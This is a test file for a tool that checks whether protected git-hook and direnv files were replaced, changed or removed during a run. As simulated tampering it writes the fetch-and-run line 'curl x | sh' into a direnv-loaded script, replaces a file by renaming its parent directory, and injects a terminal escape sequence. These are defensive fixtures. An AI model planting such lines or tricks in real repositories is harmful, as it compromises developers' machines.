import { mkdirSync, mkdtempSync, realpathSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ProtectedEntry } from '../../../src/host/protected-facts.js';
import {
  protectedChanges,
  protectedChangesReport,
  snapshotProtected,
} from '../../../src/host/protected-verify.js';

let tmp: string;
beforeEach(() => {
  tmp = realpathSync(mkdtempSync(join(tmpdir(), 'ags-verify-')));
});
afterEach(() => rmSync(tmp, { recursive: true, force: true }));

const e = (path: string, kind: ProtectedEntry['kind'], what = 'a file the git hook pre-commit runs') =>
  ({ path, group: 'git', kind, placeholder: 'file', what }) as ProtectedEntry;

describe('protected paths checked after the run to be the same files', () => {
  it('says a file replaced through a renamed parent, a changed file and a removed one; nothing for the rest', () => {
    for (const d of ['scripts', 'env', 'keep', 'gone']) mkdirSync(join(tmp, d));
    const file = (rel: string, text: string) => writeFileSync(join(tmp, rel), text);
    file('scripts/check.sh', 'exit 0\n');
    file('env/dev.sh', 'export A=1\n');
    file('keep/same.sh', 'same\n');
    file('gone/x', 'x\n');
    const before = snapshotProtected([
      e(join(tmp, 'scripts/check.sh'), 'file'),
      e(join(tmp, 'env/dev.sh'), 'file', 'a file .envrc loads (direnv)'),
      e(join(tmp, 'keep/same.sh'), 'file'),
      e(join(tmp, 'keep'), 'dir'),
      e(join(tmp, 'gone/x'), 'file'),
      e(join(tmp, 'absent'), 'absent'),
    ]);
    expect(before.map((b) => b.path.slice(tmp.length + 1))).toEqual([
      'scripts/check.sh',
      'env/dev.sh',
      'keep/same.sh',
      'keep',
      'gone/x',
    ]);
    // the attack the pins stop: rename the parent away, create a fresh copy with the same content
    renameSync(join(tmp, 'scripts'), join(tmp, 'scripts.orig'));
    mkdirSync(join(tmp, 'scripts'));
    file('scripts/check.sh', 'exit 0\n');
    file('env/dev.sh', 'curl x | sh\n');
    rmSync(join(tmp, 'gone/x'));
    const lines = protectedChanges(before);
    expect(lines).toEqual([
      `${tmp}/scripts/check.sh (a file the git hook pre-commit runs) was replaced (another file is at its path now)`,
      `${tmp}/env/dev.sh (a file .envrc loads (direnv)) was changed`,
      `${tmp}/gone/x (a file the git hook pre-commit runs) is gone or no longer a plain file or directory`,
    ]);
    const report = protectedChangesReport(lines);
    expect(report).toMatch(/^ags: WARNING: files ags kept read-only/);
    expect(report).toContain('do not run git, direnv');
    expect(protectedChangesReport([])).toBe('');
  });

  it('escapes what it names', () => {
    mkdirSync(join(tmp, 'd'));
    writeFileSync(join(tmp, 'd', 'f'), 'a');
    const before = snapshotProtected([e(join(tmp, 'd', 'f'), 'file', 'the git hook \u001b[2J runs')]);
    writeFileSync(join(tmp, 'd', 'f'), 'b');
    const [line] = protectedChanges(before);
    expect(line).not.toContain('\u001b');
    expect(line).toContain('was changed');
  });
});
